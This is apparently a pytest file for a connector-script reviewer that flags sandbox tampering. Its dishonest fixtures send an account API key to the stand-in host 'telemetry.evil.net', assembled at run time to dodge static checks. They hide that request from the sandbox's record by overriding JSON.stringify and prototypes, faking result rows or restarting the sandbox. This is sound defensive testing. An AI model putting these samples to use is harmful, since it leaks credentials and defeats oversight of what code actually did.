"""sandbox-tampering: a script that replaces what the sandbox provides or relies on.

The connector's script runs in the same V8 context as the stubs that record what it
did. Each dishonest script below hid an exfiltration or claimed rows it never produced
from the runtime before it was hardened; now it ends in `external-request` and/or
`sandbox-tampering`. The honest near misses must end in neither.
"""

import pytest

from tests.review.helpers import review, rules_of

RULE = "sandbox-tampering"

# The host is built at run time so that only the sandbox can see it (not the static half).
EXFIL = "httprequest.post('https://' + ['tele', 'metry.evil.net'].join('') + '/v1', metadata.account.apikey);\n"
ROWS_OK = (
    "var rows = JSON.parse(httprequest.get('https://api.example.com/rows'));\n"
    "datagrid.addColumn('id', datagrid.DATA_TYPE_STRING);\n"
    "for (var i = 0; i < rows.length; i++) { datagrid.addCell(rows[i].id); datagrid.endRow(); }\n"
)

DISHONEST = {
    "JSON.stringify drops the requests": (
        "var realStringify = JSON.stringify;\n"
        "JSON.stringify = function (value) {\n"
        "  if (value && value.requests) { value.requests = []; }\n"
        "  return realStringify.apply(JSON, arguments);\n"
        "};\n" + EXFIL + ROWS_OK,
        {"external-request", RULE},
    ),
    "Array.prototype.push does nothing": (
        "Array.prototype.push = function () { return this.length; };\n" + EXFIL + ROWS_OK,
        {"external-request", RULE},
    ),
    "Object.prototype.toJSON returns an empty record with fake rows": (
        "Object.prototype.toJSON = function () {\n"
        "  if (this.requests) { return {requests: [], request_count: 0, rows: 5000, columns: [], row_shape: {count: 0, examples: []}}; }\n"
        "  return this;\n"
        "};\n" + EXFIL,
        {"external-request", RULE, "no-rows"},
    ),
    "an index setter on Array.prototype swallows the first request": (
        "Object.defineProperty(Array.prototype, '0', {set: function (v) {}, configurable: true});\n" + EXFIL + ROWS_OK,
        {"external-request", RULE},
    ),
    "String.prototype.toLowerCase makes the host look declared": (
        "var lower = String.prototype.toLowerCase;\n"
        "String.prototype.toLowerCase = function () {\n"
        "  var s = lower.call(this);\n"
        "  return s.indexOf('evil.net') >= 0 ? 'api.example.com' : s;\n"
        "};\n" + EXFIL + ROWS_OK,
        {"external-request", RULE},
    ),
    "the result function is replaced with a made-up record": (
        EXFIL + "__sandboxResult = function () { return '{\"requests\": [], \"request_count\": 0, \"rows\": 5000}'; };\n",
        {"external-request", "no-rows"},
    ),
    "the sandbox is restarted to wipe the record": (
        EXFIL + ROWS_OK + "__sandboxStart(JSON.stringify({hosts: ['api.example.com'], responses: []}));\n",
        {"external-request"},
    ),
    "httprequest.post is wrapped after saving the original": (
        "var post = httprequest.post;\n"
        "httprequest.post = function (url, body) { return post(url, body); };\n" + EXFIL + ROWS_OK,
        {"external-request", RULE},
    ),
    "the request is deferred past the end of the run": (
        "setTimeout(function () {\n  " + EXFIL + "}, 5);\n" + ROWS_OK,
        {"external-request"},
    ),
}


@pytest.mark.parametrize("name", list(DISHONEST))
def test_a_dishonest_script_cannot_hide_what_it_did(name):
    source, expected = DISHONEST[name]
    result = review(processdata=source)
    rules = set(rules_of(result))
    assert expected <= rules, rules
    assert result.verdict == "fail"
    if "external-request" in expected:
        assert any(r["host"] == "telemetry.evil.net" and not r["declared"] for r in result.requests)
    if "no-rows" in expected:
        assert all(p["records"] == 0 for p in result.performance)


HONEST = {
    "polyfills for includes, padStart and Object.assign when absent": (
        "delete Array.prototype.includes; delete String.prototype.padStart; delete Object.assign;\n"
        "if (!Array.prototype.includes) {\n"
        "  Array.prototype.includes = function (x) { return this.indexOf(x) >= 0; };\n"
        "}\n"
        "if (!String.prototype.padStart) {\n"
        "  String.prototype.padStart = function (n, c) { var s = String(this); while (s.length < n) { s = (c || ' ') + s; } return s; };\n"
        "}\n"
        "if (typeof Object.assign !== 'function') {\n"
        "  Object.assign = function (t) { for (var i = 1; i < arguments.length; i++) { for (var k in arguments[i]) { t[k] = arguments[i][k]; } } return t; };\n"
        "}\n"
        "var opts = Object.assign({}, {page: '7'.padStart(3, '0')});\n"
        "if (![1, 2].includes(2) || opts.page !== '007') { throw new Error('polyfill'); }\n" + ROWS_OK
    ),
    "the same polyfills when present, and an unconditional trim polyfill": (
        "if (!Array.prototype.includes) { Array.prototype.includes = function () { return false; }; }\n"
        "String.prototype.trim = function () { return this.replace(/^\\s+|\\s+$/g, ''); };\n"
        "Object.assign = Object.assign || function () {};\n" + ROWS_OK
    ),
    "its own object with its own toJSON": (
        "function Query(page) { this.page = page; }\n"
        "Query.prototype.toJSON = function () { return {page: this.page, size: 100}; };\n"
        "var q = {filter: 'all', toJSON: function () { return {filter: this.filter}; }};\n"
        "httprequest.post('https://api.example.com/search', JSON.stringify([new Query(1), q]));\n" + ROWS_OK
    ),
    "JSON shadowed in a local function scope": (
        "function encode(v) {\n"
        "  var JSON = {stringify: function (x) { return 'v=' + x; }};\n"
        "  return JSON.stringify(v);\n"
        "}\n"
        "httprequest.post('https://api.example.com/search', encode(1));\n" + ROWS_OK
    ),
    "its own properties on metadata, new helpers on DOMO and a global named auth": (
        "var meta = metadata;\n"
        "meta.pageSize = 100;\n"
        "metadata.parameters.since = '2026-01-01';\n"
        "DOMO.pad = function (n) { return n < 10 ? '0' + n : String(n); };\n"
        "var auth = 'Bearer ' + metadata.account.apikey;\n"
        "httprequest.addHeader('Authorization', auth);\n"
        "var JSON = JSON || {};\n" + ROWS_OK
    ),
    "a timer that does its work later": (
        "var done = false;\n"
        "setTimeout(function () {\n" + ROWS_OK + "done = true;\n}, 10);\n"
    ),
}


@pytest.mark.parametrize("name", list(HONEST))
def test_an_honest_near_miss_is_not_tampering(name):
    result = review(processdata=HONEST[name])
    # The helpers' bundles have no icons: missing-field is the one error every one of them gets.
    assert {f.rule for f in result.findings if f.severity == "error"} == {"missing-field"}
    assert result.performance[0]["records"] == 2000
    assert all(r["declared"] for r in result.requests)
